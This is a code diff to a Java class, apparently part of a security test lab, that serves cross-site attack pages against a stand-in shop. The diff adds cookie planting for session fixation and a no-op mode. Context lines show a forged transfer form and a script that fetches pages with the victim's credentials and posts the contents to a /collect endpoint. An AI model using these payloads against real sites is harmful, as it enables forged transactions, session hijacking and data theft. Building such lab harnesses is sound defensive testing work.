@@ -11,8 +11,9 @@ import dev.authscope.server.settings.Switches;
 
 /**
  * Pages that make a visitor's browser send something to the shop. What they send, parameters say: {@code do} is one of form,
- * image, link, fetch, json, read; {@code url} is where to; {@code to} and {@code amount} are the transfer; {@code wait} is
- * how many milliseconds of lab time pass before the form submits itself; {@code manual} leaves the form to be submitted.
+ * image, link, fetch, json, read, nothing; {@code url} is where to; {@code to} and {@code amount} are the transfer; {@code wait} is
+ * how many milliseconds of lab time pass before the form submits itself; {@code manual} leaves the form to be submitted. {@code sid} is a session id
+ * that the page plants as a cookie for the shop.
  */
 public final class AttackPages {
 
@@ -28,6 +29,12 @@ public final class AttackPages {
 
     private static Answer win(Call call) {
         Map<String, String> asked = call.query();
+        String planted = asked.getOrDefault("sid", "");
+        if (planted.matches("[A-Za-z0-9_-]{1,64}")) {
+            // A host may set a cookie for its whole domain, and so for the shop beside it (RFC 6265bis section 8.6).
+            String name = call.settings().get(Switches.COOKIE_NAME);
+            call.setCookie(name, name + "=" + planted + "; Domain=shop.example; Path=/");
+        }
         String url = asked.getOrDefault("url", transfer(call));
         String to = asked.getOrDefault("to", "mallory");
         String amount = asked.getOrDefault("amount", "500000");
@@ -44,6 +51,7 @@ public final class AttackPages {
                     + ", amount: " + text(amount) + "})}).catch(e => console.log(String(e)));");
             case "read" -> script("fetch(" + text(url) + ", {credentials: 'include'}).then(r => r.text())"
                     + ".then(t => fetch('/collect', {method: 'POST', body: t})).catch(e => console.log(String(e)));");
+            case "nothing" -> "";
             default -> form(asked, url, to, amount);
         };
         return Answer.html("<!doctype html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n"
